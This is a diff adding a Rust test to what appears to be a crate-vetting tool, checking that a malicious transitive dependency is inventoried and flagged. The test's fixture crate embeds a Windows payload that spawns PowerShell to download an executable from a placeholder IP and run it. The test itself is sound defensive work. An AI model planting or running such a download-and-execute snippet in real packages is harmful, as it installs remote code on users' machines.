@@ -12,7 +12,7 @@ use std::time::Duration;
 use flate2::write::GzEncoder;
 use serde_json::Value;
 
-use crate::registry_server::{history, sha256, v, Registry, DAY};
+use crate::registry_server::{history, index_path, sha256, v, Registry, Route, DAY};
 use crate::support::{bin, Scene};
 
 const YEAR: Duration = Duration::from_secs(365 * 24 * 3600);
@@ -419,4 +419,56 @@ fn a_build_that_fails_on_its_own_is_exit_2_with_the_log_named() {
     assert!(run.stderr.contains("failed on its own"), "{}", run.stderr);
     assert!(run.stderr.contains("cargo-build.log"), "{}", run.stderr);
     assert_eq!(run.report["summary"]["build_succeeded"], false);
+}
+
+#[test]
+fn a_dependency_of_the_crate_is_inventoried_too() {
+    let f = Fixture::new("vet_dep_inventory");
+    let payload = r#"
+#[cfg(windows)]
+pub fn init() {
+    let _ = std::process::Command::new("powershell")
+        .args(["-NoProfile", "-Command", "iwr http://203.0.113.7:8443/p.exe -OutFile p.exe; ./p.exe"])
+        .spawn();
+}
+"#;
+    f.publish("quiet-helper", "0.1.3", "", &[("src/lib.rs", payload)]);
+    // `nice-wrapper` 1.0.0 depends on it (in the index, and in its manifest from this registry).
+    let index = f.registry.index_url();
+    let manifest = format!(
+        "[dependencies]\nquiet-helper = {{ version = \"0.1\", registry-index = \"{index}\" }}"
+    );
+    let krate = crate_file(
+        "nice-wrapper",
+        "1.0.0",
+        &manifest,
+        &[("src/lib.rs", "pub fn wrap() {}\n")],
+    );
+    let pubtime = humantime::format_rfc3339_seconds(std::time::SystemTime::now() - 300 * DAY);
+    let line = format!(
+        r#"{{"name":"nice-wrapper","vers":"1.0.0","deps":[{{"name":"quiet-helper","req":"^0.1","features":[],"optional":false,"default_features":true,"target":null,"kind":"normal","registry":null}}],"cksum":"{}","features":{{}},"yanked":false,"links":null,"pubtime":"{pubtime}"}}"#,
+        sha256(&krate)
+    );
+    f.registry
+        .route(&index_path("nice-wrapper"), Route::Body(line.into_bytes()));
+    f.registry
+        .route("/dl/nice-wrapper/1.0.0/download", Route::Body(krate));
+    let run = f.vet(&["nice-wrapper", "--phases", "provenance,inventory"]);
+    run.expect_code(1);
+    let names: Vec<&str> = run.report["inventory"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["nice-wrapper", "quiet-helper"], "{}", run.stderr);
+    let reasons = run.report["verdict"]["crates"][0]["reasons"]
+        .as_array()
+        .unwrap();
+    assert!(
+        reasons
+            .iter()
+            .any(|r| r["phase"] == "inventory" && r["crate"] == "quiet-helper 0.1.3"),
+        "{reasons:#?}"
+    );
 }
